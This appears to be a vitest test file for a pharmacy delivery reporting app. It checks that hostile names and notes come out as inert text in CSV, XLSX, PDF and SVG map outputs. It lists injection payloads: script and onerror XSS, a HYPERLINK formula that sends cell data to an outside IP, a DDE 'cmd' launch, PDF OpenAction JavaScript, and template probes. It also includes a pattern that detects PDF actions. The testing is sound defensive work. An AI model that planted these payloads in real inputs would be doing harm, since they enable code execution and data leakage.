import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { cellsOfWorkbook } from '../support/workbookCells';
import { footOf } from '../../server/outside/map/picture/foot';
import { svgOf } from '../../server/outside/map/picture/svg';
import type { ReportFormat } from '../../src/domain/reports/formats';
import { reportDay, type ReportDay } from '../reports/reportDay';
import { DAY } from '../support/dispatchDay';
import { pdfText } from '../support/pdfText';

/** Texts that a person may type as a name or a note, and that a program must only ever show. */
const HOSTILE: readonly [what: string, text: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a picture with a script', '"><img src=x onerror=alert(1)>'],
  ['the end of a cell', ']]></t></is></c><c><f>1+1</f></c>'],
  ['entities', '&lt;b&gt; &#60;i&#62; &amp;'],
  ['a formula', '=HYPERLINK("http://198.51.100.7/?"&A1,"Ana")'],
  ['a command of a spreadsheet', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['operators of a PDF', '(x) Tj ET Q BT \\) >> endstream endobj'],
  ['an action of a PDF', ')>>/OpenAction<</S/JavaScript/JS(app.alert(1))>>'],
  ['a template', '${7*7} {{7*7}} %{name}'],
];

let at: ReportDay;
beforeAll(async () => {
  at = await reportDay();
});
afterAll(() => at.server.close());
beforeEach(() => at.forget());

/** As the name of a person, of who received, of the CDP, and in a note. */
async function name(text: string): Promise<void> {
  const { db } = at.server;
  const [participant = 0] = at.one.participants;
  const [stop = 0] = at.one.stops;
  await db
    .updateTable('participants')
    .set({ first_name: text, last_name: 'X' })
    .where('id', '=', participant)
    .execute();
  await db
    .updateTable('delivery_events')
    .set({ receptor_name: text, comments: text })
    .where('id', '=', stop)
    .execute();
  await db.updateTable('cdps').set({ name: text }).where('id', '=', at.one.cdp_id).execute();
}

async function fileOf(asked: { status: number; body: { uuid?: string } }): Promise<Buffer> {
  expect(asked.status).toBe(202);
  await at.server.app.jobs.runDue();
  return (await at.download(asked.body.uuid ?? '')).rawPayload;
}
const report = async (format: ReportFormat) =>
  fileOf(await at.make('deliveries_of_day', { close_door_pharmacy_id: at.one.cdp_id, format }));
const manifest = async () =>
  fileOf(
    await at.server.call('POST', '/delivery_manifest/delivery_events/reports/pdf', {
      as: at.admin,
      body: { date: DAY, close_door_pharmacy_id: at.one.cdp_id },
    }),
  );

/** The cells of a CSV, as a spreadsheet reads them. */
function csvCells(text: string): string[] {
  return [...text.matchAll(/(?:^|[,\n])(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

/** Without the breaks of its lines. */
const squeezed = (text: string) => text.replaceAll(/\s+/g, '');

/** What a PDF would do, not what it shows: its objects without streams, and without texts in brackets. */
const deedsOf = (pdf: Buffer) =>
  pdf
    .toString('latin1')
    .replaceAll(/stream\r?\n[\s\S]*?endstream/g, '')
    .replaceAll(/\((?:\\.|[^()\\])*\)/g, '()');

describe.each(HOSTILE)('%s as a name', (_, text) => {
  beforeEach(() => name(text));

  it('is text in a CSV, and nothing that runs', async () => {
    const cells = csvCells((await report('csv')).toString());
    expect(cells.some((cell) => cell.includes(text))).toBe(true);
    expect(cells.filter((cell) => /^[=@+\t\r]/.test(cell))).toEqual([]);
  });

  it('is the text of one cell in a workbook', async () => {
    const { cells, xml } = await cellsOfWorkbook(await report('xlsx'));
    expect(cells.flat()).toContain(text);
    expect(xml).not.toMatch(/<f[ >]/);
  });

  it.each([
    ['report', () => report('pdf')],
    ['manifest', manifest],
  ])('is letters on paper in a printed %s', async (_of, print) => {
    const pdf = await print();
    expect(squeezed(pdfText(pdf))).toContain(squeezed(text));
    expect(deedsOf(pdf)).not.toMatch(/\/(?:OpenAction|JavaScript|JS|AA|Launch|URI|EmbeddedFile)\b/);
  });

  it('is a word on a small map', () => {
    const view = { center: { latitude: 32.7, longitude: -117.1 }, zoom: 14, width: 320, height: 160 };
    const foot = footOf(view, { width: 40, text: '1 mi' }, text);
    const names = [{ text: `${text}\u0001`, kind: 'street' as const, x: 10, y: 10, angle: 0, size: 11 }];
    const svg = svgOf({ view, areas: [], lines: [], names, markers: [], foot }, 'light');
    const tags = new Set<string>();
    const said: string[] = [];
    const parser = new SaxesParser();
    parser.on('opentag', ({ name: tag, attributes }) => {
      tags.add(tag);
      expect(Object.keys(attributes).filter((attribute) => /^on|href/i.test(attribute))).toEqual([]);
    });
    parser.on('text', (part) => said.push(part));
    parser.on('error', (error) => {
      throw error;
    });
    parser.write(svg).close();
    expect([...tags].filter((tag) => !['svg', 'rect', 'g', 'path', 'text', 'use'].includes(tag))).toEqual([]);
    expect(said.join('')).toContain(text);
  });
});
